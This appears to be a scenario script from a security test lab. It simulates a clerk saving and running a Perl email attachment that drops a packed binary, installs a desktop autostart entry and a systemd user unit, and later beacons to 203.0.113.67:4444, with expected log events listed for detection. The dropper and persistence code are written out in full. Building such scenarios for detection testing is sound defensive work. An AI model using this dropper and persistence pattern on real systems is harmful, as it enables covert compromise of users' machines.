# Nothing happens when it is opened; the next login starts what it left.
title="Attachment leaves an autostart entry and a user unit; the network comes two hours later"
what="The clerk saves rota.pl with Thunderbird and runs it with perl. It writes a program into ~/.local/lib, a desktop entry into ~/.config/autostart and a user unit. Two hours later a new desktop session starts the entry's line, whose grandchild connects to 203.0.113.67. Recorded quickly; times spread by lib/shift_time.py."
host=ws3.example.org user=clerk daemons="cron dovecot" audit_format=RAW
shift_plan="open:10m later:2h session:5m"

setup() {
  dovecot_config
  { cat <<'P'
use strict;
my $h = $ENV{HOME};
mkdir "$h/$_" for qw(.local .local/lib .config .config/autostart .config/systemd .config/systemd/user);
open my $d, '>:raw', "$h/.local/lib/rotad"; { local $/; print $d unpack('u', join('', <DATA>)); } close $d; chmod 0755, "$h/.local/lib/rotad";
open my $a, '>', "$h/.config/autostart/rota.desktop"; print $a "[Desktop Entry]\nType=Application\nName=Rota\nExec=sh -c '$h/.local/lib/rotad 203.0.113.67 4444'\n"; close $a;
open my $u, '>', "$h/.config/systemd/user/rota.service"; print $u "[Service]\nExecStart=$h/.local/lib/rotad 203.0.113.67 4444\n"; close $u;
print "Rota imported.\n";
__DATA__
P
  cc -O1 -s -o "$base/out/rotad" "$lab/lib/stand-ins/beacon.c"; perl -e 'local $/; binmode STDIN; print pack("u", <STDIN>)' < "$base/out/rotad"; } > "$base/out/rota.pl"
}
act() {
  display_up
  phase open
  small_talk 2
  mail_in --from planning@example.net --to clerk@example.org --subject "Rota of December" --attach "$base/out/rota.pl:application/octet-stream"
  wait_log 'from=<planning@example.net>'; wait_mail clerk 1; sleep 1
  thunderbird_save clerk rota.pl Documents
  console_as clerk <<'L'
cd Documents
perl rota.pl
L
  phase later
  small_talk 6
  phase session
  small_talk 1
  desktop_as clerk -- /bin/sh -c "sh -c '/home/clerk/.local/lib/rotad 203.0.113.67 4444'; true"; desktop_wait
  small_talk 1
}
truth() {
  mail_step deliver 'to=<clerk@example.org>.*status=sent' 'the message is delivered'
  file_step save 'thunderbird.*/home/clerk/Documents/rota.pl' 'the client writes the attachment'
  exec_step execute 'perl rota.pl' 'perl runs it'
  file_step autostart 'perl open(at)?:write CREATE /home/clerk/.config/autostart/rota.desktop' 'an autostart entry stays'
  exec_step later 'rotad 203.0.113.67 4444' 'the next session starts it'
  net_step beacon 'rotad 203.0.113.67:4444' 'which calls out'
}
